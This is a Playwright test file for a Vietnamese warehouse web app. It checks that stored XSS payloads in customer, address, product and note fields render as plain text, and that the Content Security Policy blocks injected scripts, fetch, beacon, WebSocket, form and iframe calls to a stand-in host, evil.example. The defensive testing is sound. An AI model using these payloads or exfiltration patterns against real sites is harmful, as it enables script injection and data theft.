import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, type Page } from 'playwright/test'
import { must } from '../../src/lib/must.ts'
import { writeBarcodeClip } from '../support/barcode-clip.ts'
import { changeRows } from './stage/change-rows.ts'
import { watchOffences, watchPolicy } from './stage/offences.ts'
import { openDay, walkTo } from './stage/phone.ts'
import { test } from './stage/stage.ts'

/** What would run if it were taken for more than text. */
const texts = {
  customer: `<img src=x onerror="window.hacked='khách'">Lan`,
  address: `"><svg onload="window.hacked='địa chỉ'">12 Lê Lợi`,
  product: `<script>window.hacked='hàng'</script>Áo {{7*7}}`,
  note: `<iframe srcdoc="<script>parent.hacked='ghi chú'</script>"></iframe>Giao giờ hành chính`,
}

const hacked = (page: Page) => page.evaluate(() => (window as { hacked?: string }).hacked)
const foreignParts = (page: Page) =>
  page.evaluate(
    () => document.querySelectorAll('img[src="x"], iframe, svg[onload], script:not([src]), [onerror]').length,
  )

test('texts that were written to run are shown letter for letter, in the list, the order and at the bench, on a phone and at a desk', async ({
  shop,
  openFloor,
  takeDevice,
}) => {
  const { code, lines } = shop.orders.single
  await openFloor({
    prepare: (folder) =>
      changeRows(folder, [
        {
          table: 'orders',
          key: code,
          become: (order) => ({
            ...order,
            customer: { ...order.customer, name: texts.customer, address: texts.address },
            swItems: order.swItems.map((item) => ({ ...item, name: texts.product })),
            noteCustomer: texts.note,
            noteShop: texts.note,
            historyState: order.historyState.map((entry) => ({ ...entry, note: texts.note })),
          }),
        },
        {
          table: 'products',
          key: lines[0]!.productCode,
          become: (product) => ({ ...product, name: texts.product }),
        },
      ]),
  })
  const { page } = await takeDevice({ of: 'kho' })
  const watched = await watchPolicy(page)
  await openDay(page)
  const shown: [path: string, ...texts: string[]][] = [
    [`/orders?q=${code}`, texts.customer],
    [`/orders/${code}`, texts.customer, texts.product, texts.note],
    [`/orderspack/${code}`, texts.product],
  ]
  for (const size of [must(page.viewportSize(), 'the size of a phone'), { width: 1024, height: 768 }]) {
    await page.setViewportSize(size)
    for (const [path, ...expected] of shown) {
      await walkTo(page, path)
      for (const text of expected) await expect(page.getByText(text).first()).toBeAttached()
      expect([path, await foreignParts(page), await hacked(page)]).toEqual([path, 0, undefined])
    }
  }
  expect(watched).toEqual([])
})

/** Every other screen is watched where all are looked at (`look.e2e.ts`), by whoever may open each. */
test('a start, the socket and the camera of the scan screen ask no other origin for anything, throw nothing and keep to the policy', async ({
  floor: { address },
  takeDevice,
}) => {
  const folder = mkdtempSync(join(tmpdir(), 'khotay-clip-'))
  const clip = join(folder, 'shelf.mjpeg')
  const size = { width: 640, height: 480, fps: 30 }
  await writeBarcodeClip(clip, [{ text: '1', symbology: 'qrcode', frames: 1, blankFrames: 10 }], size)
  const { page } = await takeDevice({ of: 'kho', clip })
  const offences = await watchOffences(page, address)
  const lines: { heard: number }[] = []
  page.on('websocket', (socket) => {
    const line = { heard: 0 }
    lines.push(line)
    socket.on('framereceived', () => (line.heard += 1))
  })
  await openDay(page)
  await expect.poll(() => lines.some(({ heard }) => heard > 1)).toBe(true)
  await walkTo(page, '/scan')
  await expect(page.getByText('Đưa mã vận đơn hoặc mã sản phẩm vào khung')).toBeVisible()
  expect(offences).toEqual([])
  rmSync(folder, { recursive: true, force: true })
})

test('the policy holds off what an injected text would do', async ({ floor: { address }, takeDevice }) => {
  const { page, context } = await takeDevice()
  const watched = await watchPolicy(page)
  // What the policy holds off never gets as far as the network.
  const sent: string[] = []
  await context.route(/evil\.example/, (route) => {
    sent.push(route.request().url())
    return route.abort()
  })
  await page.goto(`${address}/sign-in`)
  await expect(page.getByLabel('Tên đăng nhập')).toBeVisible()
  expect(watched, 'the sign-in itself').toEqual([])
  const acts: Record<string, string> = {
    'script-src-elem inline': `const tag = document.createElement('script'); tag.textContent = 'window.hacked = 1'; document.body.append(tag)`,
    'script-src-elem https://evil.example/x.js': `const tag = document.createElement('script'); tag.src = 'https://evil.example/x.js'; document.body.append(tag)`,
    'script-src-attr inline': `document.body.insertAdjacentHTML('beforeend', '<img src=data: onerror="window.hacked = 1">')`,
    'script-src eval': `try { window.setTimeout('window.hacked = 1') } catch {}`,
    'img-src https://evil.example/x.png': `new Image().src = 'https://evil.example/x.png'`,
    'connect-src https://evil.example/x': `fetch('https://evil.example/x', { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => undefined)`,
    'connect-src wss://evil.example/x': `try { new WebSocket('wss://evil.example/x') } catch {}`,
    'connect-src https://evil.example/beacon': `navigator.sendBeacon('https://evil.example/beacon', 'x')`,
    'frame-src https://evil.example': `const tag = document.createElement('iframe'); tag.src = 'https://evil.example/'; document.body.append(tag)`,
    'style-src-elem https://evil.example/x.css': `const tag = document.createElement('link'); tag.rel = 'stylesheet'; tag.href = 'https://evil.example/x.css'; document.head.append(tag)`,
    'style-src-elem inline': `const tag = document.createElement('style'); tag.textContent = '* { color: red }'; document.head.append(tag)`,
    'form-action https://evil.example/form': `const tag = document.createElement('form'); tag.action = 'https://evil.example/form'; document.body.append(tag); tag.submit()`,
    'base-uri https://evil.example': `const tag = document.createElement('base'); tag.href = 'https://evil.example/'; document.head.append(tag)`,
    'object-src https://evil.example': `const tag = document.createElement('object'); tag.data = 'https://evil.example/x.swf'; document.body.append(tag)`,
    'worker-src data': `try { new Worker('data:text/javascript,1') } catch {}`,
  }
  const letThrough: string[] = []
  for (const [violation, act] of Object.entries(acts)) {
    // As a script of the page's own that was tricked into it.
    await page.evaluate(act)
    const held = expect.poll(() => watched.some((told) => told.startsWith(violation)))
    await held.toBe(true).catch(() => letThrough.push(`${violation} (told: ${watched.join(', ')})`))
  }
  expect(letThrough).toEqual([])
  expect(sent).toEqual([])
  expect(await hacked(page)).toBeUndefined()
  console.log(
    `${Object.keys(acts).length} injected acts tried in the browser, ${letThrough.length} let through`,
  )
})
